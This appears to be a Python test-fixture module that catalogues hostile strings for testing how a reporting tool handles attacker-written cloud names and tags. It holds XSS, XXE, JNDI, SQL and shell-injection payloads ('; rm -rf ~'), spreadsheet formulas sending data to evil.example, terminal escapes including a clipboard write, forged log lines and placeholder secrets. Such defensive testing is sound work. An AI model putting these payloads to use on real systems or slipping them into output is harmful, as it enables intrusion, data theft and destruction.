"""Texts that somebody would put into a name, a tag or a policy to harm whoever reads a report of it.

Each is what an attacker could write where a cloud lets text be written. Some clouds let less through; a snapshot that
somebody else made lets everything through.
"""

from collections.abc import Mapping

ESC = "\x1b"

TERMINAL = {
    "colour": f"{ESC}[31mred{ESC}[0m",
    "clear": f"{ESC}[2J{ESC}[H",
    "title": f"{ESC}]0;owned\x07",
    "hyperlink": f"{ESC}]8;;http://evil.example\x07click{ESC}]8;;\x07",
    "clipboard": f"{ESC}]52;c;cm0gLXJmIH4=\x07",
    "device-control": f"{ESC}P$q q{ESC}\\",
    "application": f"{ESC}_Gf=24;AAAA{ESC}\\",
    "c1-control": "\x9b31mred\x9d0;owned\x9c\x90q\x9c",
    "cursor": f"ok{ESC}[1A{ESC}[2KPASS everything",
    "overwrite": "FAIL\rPASS",
    "backspaces": "FAIL\b\b\b\bPASS",
    "bell-and-shifts": "\x07\x0e\x0f",
    "all-c0": "".join(map(chr, range(32))),
    "all-c1": "".join(map(chr, range(0x80, 0xA0))),
    "delete": "a\x7fb",
    "nul": "a\x00b",
}
LINES = {
    "line-feed": "a\nb",
    "crlf": "a\r\nb",
    "carriage-return": "a\rb",
    "tab": "a\tb",
    "vertical-tab-and-form-feed": "a\x0bb\x0cc",
    "next-line": "a\x85b",
    "line-separator": "a\u2028b\u2029c",
    "forged-json-line": '"}\n{"id": "f1:forged", "status": "pass"}\n',
    "forged-syslog": "x\n<134>1 2026-01-01T00:00:00Z h a - - - forged",
    "forged-count": "12 <0>1 - - - - - -",
    "forged-csv-row": '"\r\n"forged","pass","critical',
    "forged-bulk": '\n{"create":{"_id":"forged"}}\n{"a":1}\n',
    "forged-header": "x\r\nAuthorization: Bearer forged\r\n\r\n",
}
DIRECTIONS = {
    "override": "\u202egpj.exe",
    "embeddings": "\u202aa\u202bb\u202dc\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "marks": "\u200ea\u200fb\u061cc",
    "right-to-left": "שלום-bucket-مرحبا",
}
UNSEEN = {
    "zero-width": "ad\u200bm\u200ci\u200dn\ufeff",
    "tags": "a\U000e0041\U000e0042",
    "selectors": "a\ufe0f\U000e0100",
    "blanks": "\u2800\u3164\u115f\u00a0",
    "soft-hyphen": "ad\u00admin",
    "combining": "Z" + "\u0351\u0300\u0335" * 60,
    "private-and-unassigned": "\ue000\U0010ffff\ufffe",
    "high-surrogate": "a\ud800b",
    "low-surrogate": "a\udc00b",
    "swapped-surrogates": "\udfff\ud800",
    "half-at-the-end": "a\ud83d",
}
FORMULAS = {
    "formula": "=1+1",
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-link": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "tab-formula": "\t=1+1",
    "line-formula": "\n=1+1",
    "return-formula": "\r=1+1",
    "space-formula": "  =1+1",
    "quoted-formula": '";=1+1;"',
    "semicolon-formula": "a;=1+1",
    "semicolon-quoted-formula": 'a;"=1+1',
    "full-width-formula": "＝1+1",
    "full-width-others": "＋1",
    "full-width-minus": "－1",
    "full-width-at": "＠SUM(1)",
    "zero-width-formula": "\u200b=1+1",
}
MARKUP = {
    "script": "</script><script>alert(1)</script>",
    "script-comment": "<!--<script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": '"><svg onload=alert(1)>',
    "attribute": "\" onmouseover=alert(1) x='",
    "apostrophe-attribute": "' autofocus onfocus=alert(1) '",
    "style": "</style><style>*{background:url(//evil.example)}</style>",
    "title-end": "</title></head><body onload=alert(1)>",
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "iframe": "<iframe src=javascript:alert(1)></iframe>",
    "base": "<base href=//evil.example>",
    "cdata-end": "]]>",
    "cdata": "<![CDATA[x]]>",
    "entities": "&#x3c;script&#62;&lt;b&gt;&nbsp;&amp",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "comment-end": "-->--!>",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{% raw %}",
    "full-width-markup": "＜script＞",
}
PROSE = {
    "markdown-link": "[click](http://evil.example)",
    "markdown-image": "![x](http://evil.example/x.png)",
    "markdown-script-link": "[click](javascript:alert(1))",
    "markdown-reference": "[x]: http://evil.example 'y'",
    "markdown-autolink": "<http://evil.example>",
    "bare-link": "http://evil.example/?q=1 www.evil.example evil@evil.example",
    "markdown-table": "| a | b |\n|---|---|",
    "markdown-code": "`a` ``` ~~~",
    "markdown-heading": "# heading",
    "markdown-rule": "---",
    "markdown-list": "1. a\n- b\n* c",
    "markdown-html": "<details><summary>x</summary>",
    "mention": "@everyone @org/team #1 GH-1",
    "markup-of-rich": "[link=file:///etc]x[/link][/nope][bold]:smile:",
}
TEMPLATES = {
    "percent": "%s%n%x %(x)s %%",
    "braces": "{0} {x.__class__} {{}} {",
    "dollar": "$HOME ${x} $(id) `id`",
    "jndi": "${jndi:ldap://evil.example/a}",
    "rsyslog": "%msg% %$!all-json%",
    "sql": "'; DROP TABLE findings; --",
    "shell": "; rm -rf ~ #",
    "regular-expression": "(a+)+$" + "a" * 40 + "!",
    "globs": "*" * 100 + "[!a]?",
}
DATA = {
    "json-in-json": '{"status": "pass", "a": ["\\u0000", "\\ud800"]}',
    "escapes": '\\n \\u0041 \\x41 \\\\ \\" \\',
    "quotes": "\"'`\u2018\u201c«",
    "brackets": ']"\\ [x@32473 uid="forged"]',
    "yaml": "!!python/object:os.system {}\n- &a *a",
    "number": "9" * 5000,
    "number-like": "1e999",
    "not-a-number": "NaN",
    "leading-zeros": "000123456789",
    "date-like": "2026-13-45T25:61:61Z",
    "null": "null",
    "prototype": "__proto__",
    "constructor": "constructor",
    "dunder": "__class__",
    "empty": "",
    "blank": " ",
    "blanks-around": "  a  ",
}
PATHS = {
    "traversal": "../../../../etc/passwd",
    "windows-traversal": "..\\..\\windows\\system32",
    "absolute": "/etc/passwd",
    "file-link": "file:///etc/passwd",
    "metadata-address": "http://169.254.169.254/latest/meta-data/",
    "script-link": "javascript:alert(1)",
    "data-link": "data:text/html,<script>alert(1)</script>",
    "device": "CON",
    "dash": "--output=/etc/passwd",
}
SECRETS = {
    "access-key": "AKIAIOSFODNN7EXAMPLE",
    "secret-key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "token": "ghp_0123456789abcdefghijklmnopqrstuvwxyz",
    "private-key": "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----",
    "jwt": "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
    "password-link": "https://user:password@evil.example/",
}
"""What looks like a secret. Reports promise nothing about such texts: a name is shown as it is. What is promised is
earlier: no fact holds the value of what could be a secret, so that no evidence does."""
PAYLOADS: Mapping[str, str] = (
    TERMINAL | LINES | DIRECTIONS | UNSEEN | FORMULAS | MARKUP | PROSE | TEMPLATES | DATA | PATHS | SECRETS
)
SHARP: Mapping[str, str] = {
    name: PAYLOADS[name]
    for name in (
        *("colour", "hyperlink", "c1-control", "overwrite", "nul", "forged-json-line", "forged-csv-row"),
        *("line-separator", "override", "zero-width", "high-surrogate", "formula", "semicolon-formula"),
        *("full-width-formula", "script", "attribute", "cdata-end", "entities", "markdown-link", "markdown-table"),
        *("mention", "braces", "json-in-json", "brackets", "traversal", "script-link", "empty"),
    )
}
"""One of each sort, for reports that hold each in each place by itself."""
LONG: Mapping[str, str] = {
    "word": "x" * 33_000,
    "wide": "図" * 12_000,
    "hostile": f"{ESC}[31m<b>\u202e" * 3_000,
    "lines": "a\n" * 8_000,
}
"""Longer than a cell, a line or a message may be."""
HUGE = f'{ESC}[31m<script>"\\\n' + "x" * (1024 * 1024)
"""A mebibyte."""
